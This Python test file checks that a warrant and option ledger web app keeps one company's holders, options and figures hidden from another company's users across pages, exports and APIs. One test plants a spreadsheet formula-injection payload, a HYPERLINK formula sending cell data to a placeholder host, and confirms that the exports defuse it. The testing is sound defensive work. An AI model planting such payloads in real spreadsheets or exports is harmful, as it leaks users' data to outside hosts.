"""Adversarial: what a holder, a company or an agent may see through the routes issue 11 added (cap table, fund view,
exports, /api/captable, /audit, the audit pack, forms and confirmation pages), with a second company in the ledger
whose option, holder and figures none of atg's users may see."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from fractions import Fraction as F
from typing import Any

import pytest
from tests.web.confirming import confirm_token
from tests.web.conftest import TODAY, Env, login

from warrantbook.core import events as ev
from warrantbook.core.terms import Address, Company, Holder, Tranche, Venue, seed_terms
from warrantbook.web.auth import Principal

SECRET = "Zeta Secret Fund"  # a holder of beta only: no atg user may learn its name


def add_beta(env: Env) -> None:
    """Company beta, holder zeta (BETA-1) and northbridge (BETA-2), recorded as their own users would."""
    b = env.app.state.book
    beta, zeta = Principal("beta", "company", "beta"), Principal("zeta", "holder", "zeta")
    on = TODAY
    for p, e in [
        (beta, ev.CompanyRegistered(id="beta", on=on, actor="company:beta", company=Company(
            id="beta", name="Beta Hidden Corp", state="Nevada", office=Address(("1 Example Way", "Reno, NV 89501"))))),
        (beta, ev.Listed(id="beta-listing", on=on, actor="company:beta", company="beta", venue=Venue.OTCBB)),
        (beta, ev.SharesOutstanding(id="beta-out", on=on, actor="company:beta", company="beta", shares=F(777_000_000), source="t")),
        (beta, ev.AuthorizedShares(id="beta-auth", on=on, actor="company:beta", company="beta", shares=F(999_000_000), source="t")),
        (zeta, ev.HolderRegistered(id="zeta", on=on, actor="holder:zeta", holder=Holder(id="zeta", name=SECRET,
                                                                                        address=Address(("9 Hidden Lane",))))),
    ]:
        b.record(p, e)
    for no, holder in (("BETA-1", "zeta"), ("BETA-2", "northbridge")):
        terms = replace(seed_terms(option_no=no, company="beta"), issue_date=on, tranches=(Tranche(F(123_456_789), F("0.0007")),))
        b.record(beta, ev.OptionIssued(id=f"issue-{no}", on=on, actor="company:beta", option_no=no, holder=holder, terms=terms))


def page(env: Env, who: str, path: str) -> Any:
    env.client.cookies.clear()
    login(env.client, who)
    return env.client.get(path, follow_redirects=False)


def _text(r: Any) -> str:
    return r.content.decode("utf-8-sig", "replace") if r.headers.get("content-type", "").startswith("text/csv") else r.text


# (user, path) pairs that must not mention beta's option, holder or figures
ATG_USERS = ("gssf", "affiliate", "atg")
PATHS = ["/captable", "/companies/atg/captable", "/companies/atg/captable.csv", "/holders/gssf/captable", "/holders/gssf/captable.csv",
         "/holders/northbridge/captable", "/holders/northbridge/captable.csv", "/exports/options.csv", "/exports/history.csv",
         "/exports/due.csv", "/audit", "/", "/options/ATG-3/act/exercise-notice", "/options/ATG-3/act/transfer-request",
         "/companies/atg/act/ownership", "/companies/atg/act/issue", "/companies/atg/act/stock-event"]
LEAKS = ("BETA-1", "BETA-2", "Beta Hidden", SECRET, "zeta", "777,000,000", "777000000", "123,456,789", "123456789")


@pytest.mark.parametrize("who", ATG_USERS)
def test_nothing_of_beta_shows_to_atgs_users(env: Env, who: str) -> None:
    add_beta(env)
    env.client.cookies.clear()
    login(env.client, who)
    for path in PATHS:
        if who == "atg" and path == "/companies/atg/act/issue":
            continue  # see test_the_issue_form_lists_only_holders_the_company_may_see
        if who == "atg" and path == "/companies/atg/act/ownership":
            continue  # likewise
        r = env.client.get(path, follow_redirects=False)
        if r.status_code in (403, 404):
            continue
        assert r.status_code == 200, (path, r.status_code, r.text[:300])
        body = _text(r)
        found = [x for x in LEAKS if x in body]
        assert not found, (who, path, found)


def test_northbridge_sees_only_its_own_beta_option(env: Env) -> None:
    add_beta(env)
    r = env.get("/api/captable?holder=northbridge", "northbridge")
    assert r.status_code == 200, r.text
    options = [o["option"] for c in r.json()["companies"] for o in c["options"]]
    assert sorted(options) == ["ATG-2", "BETA-2"]
    assert SECRET not in r.text and "BETA-1" not in r.text
    # the company atg looking at northbridge sees northbridge's atg option only
    r = env.get("/api/captable?holder=northbridge", "atg")
    assert r.status_code == 200 and [o["option"] for c in r.json()["companies"] for o in c["options"]] == ["ATG-2"], r.text
    assert "beta" not in r.text.lower()


@pytest.mark.parametrize(("who", "query"), [("atg", "company=beta"), ("atg", "holder=zeta"), ("gssf", "holder=zeta"),
                                            ("northbridge", "company=beta"), ("northbridge", "holder=zeta"), ("agent", "holder=northbridge"),
                                            ("affiliate", "holder=northbridge"), ("gssf", "company=atg&as_of=2005-01-01")])
def test_api_captable_refuses_what_is_not_theirs(env: Env, who: str, query: str) -> None:
    add_beta(env)
    r = env.get(f"/api/captable?{query}", who)
    assert r.status_code == 404, r.text
    assert SECRET not in r.text


@pytest.mark.parametrize("who", ["gssf", "northbridge", "affiliate", "atg", "agent"])
def test_the_pack_is_refused_and_verification_redacted_when_not_all_seeing(env: Env, who: str) -> None:
    add_beta(env)
    assert env.get("/api/audit/pack", who).status_code == 403
    r = env.get("/api/audit/verify", who)
    assert r.status_code == 200 and "beta" not in r.text.lower()


@pytest.mark.parametrize(("who", "view"), [(w, v) for w in ("gssf", "northbridge", "affiliate", "atg", "agent") for v in ("options", "history", "due")])
def test_an_export_holds_exactly_the_api_rows(env: Env, who: str, view: str) -> None:
    add_beta(env)
    api = {"options": ("/api/options", "options", "option"), "history": ("/api/history", "events", "id"), "due": ("/api/due", "items", "option")}
    path, key, ident = api[view]
    want = [str(x.get(ident) or "") for x in env.get(path, who).json()[key]]
    r = page(env, who, f"/exports/{view}.csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    column = {"options": "Option", "history": "Event", "due": "Option"}[view]
    assert [row[column] for row in rows] == want


def test_the_issue_form_lists_only_holders_the_company_may_see(env: Env) -> None:
    """A company may not open the page of a holder that holds none of its options (404, pages.require_holder), and the
    API's views never name one; its issue and ownership forms must not list every holder of the ledger either."""
    add_beta(env)
    assert page(env, "atg", "/holders/zeta").status_code == 404
    for form in ("issue", "ownership"):
        r = page(env, "atg", f"/companies/atg/act/{form}")
        assert r.status_code == 200
        assert SECRET not in r.text, form


def test_a_holder_cannot_reach_another_holders_confirmation(env: Env) -> None:
    add_beta(env)
    c = env.client
    c.cookies.clear()
    csrf = login(c, "gssf")
    for path in ("/options/ATG-2/act/exercise-notice", "/options/BETA-1/act/exercise-notice", "/options/BETA-1/calculator",
                 "/options/BETA-1/calculator/result?shares=1"):
        assert c.get(path).status_code == 404, path
    r = c.post("/options/ATG-2/act/exercise-notice", data={"csrf_token": csrf, "shares": "1", "method": "cash", "on": TODAY.isoformat()})
    assert r.status_code == 404 and confirm_token(r.text) is None
    r = c.post("/options/BETA-1/exercise-notice", data={"csrf_token": csrf, "shares": "1", "method": "cash"})
    assert r.status_code == 404 and SECRET not in r.text
    # a confirmation token made on gssf's own option does not open another's
    shown = c.post("/options/ATG-3/act/exercise-notice", data={"csrf_token": csrf, "shares": "1000000", "method": "cash",
                                                               "channel": "fax", "on": TODAY.isoformat()})
    token = confirm_token(shown.text)
    assert token
    before = env.count()
    r = c.post("/options/ATG-2/act/exercise-notice", data={"csrf_token": csrf, "confirm_token": token})
    assert r.status_code == 404 and env.count() == before
    assert not re.search(r"Northbridge", r.text)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_holders_own_name_cannot_plant_a_formula_in_the_companys_export(env: Env, kind: str) -> None:
    from datetime import date

    import openpyxl

    gssf = Principal("gssf", "holder", "gssf")
    evil = "\n=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"
    env.app.state.book.record(gssf, ev.HolderRegistered(id="gssf-rename", on=date(2006, 12, 29), actor="holder:gssf", holder=Holder(
        id="gssf", name=evil, address=Address(("c/o Illustrative Fund Services", "New York, NY 10022")))))
    for path in ("/exports/options", "/companies/atg/captable", "/holders/gssf/captable"):
        r = page(env, "atg", f"{path}.{kind}")
        assert r.status_code == 200, (path, r.text[:200])
        if kind == "csv":
            cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
        else:
            wb = openpyxl.load_workbook(io.BytesIO(r.content))
            cells = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
            assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
        named = [c for c in cells if "HYPERLINK" in c]
        assert named and all(c.startswith("'") for c in named), (path, named)
